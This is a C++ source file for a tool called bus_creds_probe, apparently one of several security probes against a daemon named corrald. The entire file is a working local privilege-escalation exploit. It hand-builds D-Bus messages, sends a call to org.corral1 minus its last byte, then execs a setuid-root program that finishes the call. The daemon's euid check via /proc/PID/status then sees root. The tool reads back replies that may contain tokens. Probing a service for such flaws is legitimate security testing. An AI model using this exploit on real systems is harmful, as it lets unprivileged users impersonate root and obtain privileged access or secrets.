// A local user's attack on how corrald tells root callers apart: it sends a call over the
// system bus and, before the bus delivers it, execs a setuid-root program that keeps the
// connection (any setuid program waiting for a password would do). A check that reads the
// caller's euid from /proc/PID/status then sees the setuid program's euid 0.
//   bus_creds_probe send HOLDER PATH IFACE MEMBER [STRING...]
//       connects to the system bus as the caller, says Hello, writes the call but its last
//       byte, and execs HOLDER (the setuid copy) with the connection on fd 3
//   bus_creds_probe hold
//       (as HOLDER) writes the last byte, reads the reply for up to 3 s and prints
//       "euid=N reply: ..." with the reply's printable bytes
// Raw D-Bus on a unix socket (no library): static like the other probes.
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <string>
#include <vector>

namespace {

void Align(std::string& b, size_t to) {
  while (b.size() % to != 0) b.push_back('\0');
}

void U32(std::string& b, uint32_t v) {
  Align(b, 4);
  b.append(reinterpret_cast<const char*>(&v), 4);
}

void Str(std::string& b, const std::string& s) {
  U32(b, static_cast<uint32_t>(s.size()));
  b += s;
  b.push_back('\0');
}

void Field(std::string& fields, uint8_t code, char type, const std::string& value) {
  Align(fields, 8);
  fields.push_back(static_cast<char>(code));
  fields.push_back(1);
  fields.push_back(type);
  fields.push_back('\0');
  if (type == 'g') {
    fields.push_back(static_cast<char>(value.size()));
    fields += value;
    fields.push_back('\0');
  } else {
    Str(fields, value);
  }
}

// A METHOD_CALL message, little endian.
std::string Call(uint32_t serial, const std::string& dest, const std::string& path, const std::string& iface,
                 const std::string& member, const std::vector<std::string>& args) {
  std::string body;
  for (const std::string& a : args) Str(body, a);
  // Fields are marshalled as if they started at offset 16 (8-aligned, so the same alignment).
  std::string fields;
  Field(fields, 1, 'o', path);
  Field(fields, 2, 's', iface);
  Field(fields, 3, 's', member);
  Field(fields, 6, 's', dest);
  if (!args.empty()) Field(fields, 8, 'g', std::string(args.size(), 's'));
  std::string m = {'l', 1, 0, 1};
  U32(m, static_cast<uint32_t>(body.size()));
  U32(m, serial);
  U32(m, static_cast<uint32_t>(fields.size()));
  m += fields;
  Align(m, 8);
  return m + body;
}

bool WriteAll(int fd, const std::string& data) {
  size_t off = 0;
  while (off < data.size()) {
    ssize_t n = write(fd, data.data() + off, data.size() - off);
    if (n <= 0) return false;
    off += static_cast<size_t>(n);
  }
  return true;
}

int Send(int argc, char** argv) {
  if (argc < 6) return 2;
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);  // no CLOEXEC: the holder keeps it
  sockaddr_un addr = {};
  addr.sun_family = AF_UNIX;
  strcpy(addr.sun_path, "/run/dbus/system_bus_socket");
  if (fd < 0 || connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
    perror("connect");
    return 1;
  }
  char uid[16], hex[40] = "";
  snprintf(uid, sizeof(uid), "%u", getuid());
  for (char* p = uid; *p != '\0'; ++p) snprintf(hex + strlen(hex), 3, "%02x", *p);
  if (!WriteAll(fd, std::string(1, '\0') + "AUTH EXTERNAL " + hex + "\r\n")) return 1;
  char line[256];
  ssize_t n = read(fd, line, sizeof(line) - 1);
  if (n < 2 || strncmp(line, "OK", 2) != 0) {
    fprintf(stderr, "auth refused\n");
    return 1;
  }
  std::string call = Call(2, "org.corral1", argv[3], argv[4], argv[5],
                          std::vector<std::string>(argv + 6, argv + argc));
  if (!WriteAll(fd, "BEGIN\r\n") ||
      !WriteAll(fd, Call(1, "org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus", "Hello", {})) ||
      !WriteAll(fd, call.substr(0, call.size() - 1))) {
    return 1;
  }
  // The last byte goes from the holder, once the exec has made this pid a setuid program.
  char last[8];
  snprintf(last, sizeof(last), "%d", static_cast<unsigned char>(call.back()));
  if (dup2(fd, 3) != 3) return 1;
  execl(argv[2], argv[2], "hold", last, static_cast<char*>(nullptr));
  perror("exec the holder");
  return 1;
}

int Hold(int argc, char** argv) {
  if (argc < 3) return 2;
  char last = static_cast<char>(atoi(argv[2]));
  if (write(3, &last, 1) != 1) return 1;
  std::string reply;
  for (;;) {
    pollfd p = {3, POLLIN, 0};
    if (poll(&p, 1, 3000) <= 0) break;
    char buf[4096];
    ssize_t n = read(3, buf, sizeof(buf));
    if (n <= 0) break;
    for (ssize_t i = 0; i < n; ++i) reply.push_back(buf[i] >= 0x20 && buf[i] < 0x7f ? buf[i] : '.');
    // Enough once the reply or error to our call (serial 2) has come after Hello's.
    if (reply.find("AccessDenied") != std::string::npos || reply.find("corral1.Container") != std::string::npos ||
        reply.find("TOKEN") != std::string::npos) {
      if (poll(&p, 1, 200) <= 0) break;
    }
  }
  printf("euid=%u reply: %s\n", geteuid(), reply.c_str());
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc >= 2 && strcmp(argv[1], "send") == 0) return Send(argc, argv);
  if (argc >= 2 && strcmp(argv[1], "hold") == 0) return Hold(argc, argv);
  fprintf(stderr, "usage: bus_creds_probe send HOLDER PATH IFACE MEMBER [ARG...] | hold LASTBYTE\n");
  return 2;
}
